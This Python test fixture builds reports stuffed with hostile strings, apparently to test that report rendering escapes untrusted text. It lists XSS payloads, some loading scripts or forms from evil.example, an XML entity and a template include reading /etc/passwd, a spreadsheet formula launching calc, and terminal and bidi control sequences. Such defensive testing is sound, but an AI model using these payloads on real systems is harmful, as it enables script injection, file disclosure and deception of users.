"""Strings that attack a reader of the report, and a report that carries one everywhere."""

from __future__ import annotations

import math
from typing import Any

from pipeline.parity.types import GateResult, Metrics, NoiseFloor, ProbeMetrics, Quality
from pipeline.report.schema import CheckEntry, Finding, NodeReport, Report, SampleSizes
from tests.report.example import example_report

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script src=//evil.example/x.js></script>',
    "'><iframe src=javascript:alert(1)></iframe>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</details></summary></table><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<object data=//evil.example/x.swf>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><button>x</button></form>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(//evil.example/x.png)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "<ScRiPt\n>alert(1)</sCrIpT\n>",
    "<video><source onerror=alert(1)></video>",
    "javascript:alert(1)",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)

MARKDOWN = (
    "a | b | c",
    "`code` ``more`` ```fence",
    "```\n# Passed\n```",
    "line\n\n# ✅ Passed\n\n- all is well",
    "[click](javascript:alert(1))",
    "![image](https://evil.example/x.png)",
    "https://evil.example/x www.evil.example mail@evil.example",
    "<details open><summary>x",
    "\\| \\` \\\\",
    "# heading",
    "- item",
    "1. item",
    "| --- | --- |",
    "**bold** __bold__ ~~gone~~ $x$",
    "@everyone",
)

CONTROL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x9b31mred",
    "zero\x00byte",
    "bell\x07 back\x08space",
    "vertical\x0btab form\x0cfeed",
    "carriage\rreturn",
    "noncharacter\ufffe\uffff",
    "surrogate\ud800",
    "\u202egnirts desrever",
    "\u2066isolate\u2069",
    "\ufeffmark",
    "\x85next line \u2028 line separator",
)

SPREADSHEET = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)")

HUGE = "n" * 1_000_000

ALL = (*MARKUP, *MARKDOWN, *CONTROL, *SPREADSHEET)


def hostile_checks(text: str) -> tuple[tuple[CheckEntry, ...], tuple[NodeReport, ...]]:
    """Checks of the node that is named by the text, and what their nodes say."""
    record = {"name": text, "operator": text, "node": text, "layer": text, "noise": 0.5}
    case = {"case": text, "output": text, "noise": 0.1, "sample": text}
    facts: dict[str, dict[str, Any]] = {
        "layers": {
            "layers": [record],
            "against": text,
            "worst": [text],
            "first": text,
            text: text,
        },
        "invariance": {"cases": [case], text: [text]},
        "headroom": {"records": [{text: text}], text: {text: text}},
    }
    base = example_report().nodes[0]
    entries = tuple(
        CheckEntry(check=name, node=f"{name}@check", of=text, stage=text, component=text)
        for name in facts
    )
    nodes = tuple(
        base.model_copy(update={"name": f"{name}@check", "facts": found})
        for name, found in facts.items()
    )
    return entries, nodes


def hostile_gate(text: str) -> GateResult:
    """Of a stage, failed, with the text wherever there is a name."""
    return GateResult(
        gate="stages",
        target=text,
        metric=f"{text}.{text}.noise",
        measured=0.5,
        limit="<= 0.1",
        verdict="failed",
        reason=text,
        is_allowed=False,
        node=text,
        layer=text,
    )


def hostile_report(text: str) -> Report:
    """The example with the text wherever a report may hold one that we did not write."""
    base = example_report("error")
    gate, node, target = base.gates[0], base.nodes[0], base.targets[2]
    facts: dict[str, Any] = {
        text: text,
        "nan": math.nan,
        "list": [text, math.inf, {text: [text]}],
        "fusions": {text: {"fired": math.nan, "refused": [{"node": text, "reason": text}]}},
        "layer_types": {text: math.inf, "gemm": 3},
        "layer_rows": [{text: text, "name": text, "inputs": [text]}],
        "coverage": {text: 0.5},
    }
    failure = base.nodes[8].failure
    assert failure is not None
    wrong = failure.model_copy(
        update={"message": text, "hint": text, "signal": text, "last_lines": (text, text)}
    )
    first = target.parity[0]
    assert first.parity is not None
    output = first.parity.outputs[0].model_copy(update={"name": text})
    parity = first.parity.model_copy(
        update={"outputs": (output,), "problems": (text,), "session": text}
    )
    quality = Quality(
        metric=text,
        samples=1,
        answers=1,
        score=math.nan,
        reference_score=0.5,
        drop=math.inf,
        gained=0,
        lost=1,
    )
    sizes = Metrics.model_validate(
        output.metrics.model_dump() | {"rmse": 0.5, "reference_rms": 1.0, "non_finite": 0}
    )
    probe = ProbeMetrics(index=0, kind=text, text=text, output=text, metrics=sizes)
    parity = parity.model_copy(update={"quality": quality, "probes": (probe,)})
    checks, check_nodes = hostile_checks(text)
    finding = Finding(
        target=text, node=text, stage=text, layer=text, sentence=text, gates=(text, text)
    )
    floor = NoiseFloor(component=text, output=text, float64=1e-7, threads=math.nan, samples=1)
    weight = (
        base.targets[0]
        .weights[0]
        .model_copy(update={"component": text, "part": text, "dtype": text})
    )
    files = (target.files[0].model_copy(update={"path": text}),)
    engines = (target.engines[0].model_copy(update={"node": text, "file": text, "facts": facts}),)
    return base.model_copy(
        update={
            "name": text,
            "version": text,
            "reasons": (text,),
            "created_at": text,
            "recipe": {text: {"a": [text]}},
            "source": {text: text},
            "environment": {text: {text: text}},
            "gates": (
                gate.model_copy(
                    update={
                        "target": text,
                        "metric": text,
                        "limit": text,
                        "reason": text,
                        "measured": math.nan,
                        "verdict": "failed",
                        "is_allowed": False,
                    }
                ),
                hostile_gate(text),
                *base.gates[1:],
            ),
            "nodes": (
                node.model_copy(update={"name": text, "reasons": (text,), "facts": facts}),
                node.model_copy(update={"name": text, "state": "failed", "failure": wrong}),
                *base.nodes[1:],
                *check_nodes,
            ),
            "findings": (finding,),
            "noise_floors": (floor,),
            "targets": (
                *base.targets[:2],
                target.model_copy(
                    update={
                        "name": text,
                        "proxy": text,
                        "not_run_reason": text,
                        "files": files,
                        "engines": engines,
                        "weights": (weight,),
                        "checks": checks,
                        "parity": (
                            first.model_copy(
                                update={
                                    "node": text,
                                    "stage": text,
                                    "parity": parity,
                                    "arithmetic": "float32",
                                }
                            ),
                            first.model_copy(
                                update={"component": text, "parity": None, "not_run_reason": text}
                            ),
                        ),
                    }
                ),
            ),
            "worst_samples": (
                base.worst_samples[0].model_copy(
                    update={"text": text, "output": text, "metric": text, "value": math.nan}
                    | {"label": text, "image": text}
                ),
            ),
            "warnings": (text,) * 6,
            "sample_sizes": (SampleSizes(axis=text, counts=((1, 2), (3, 4))),),
        }
    )
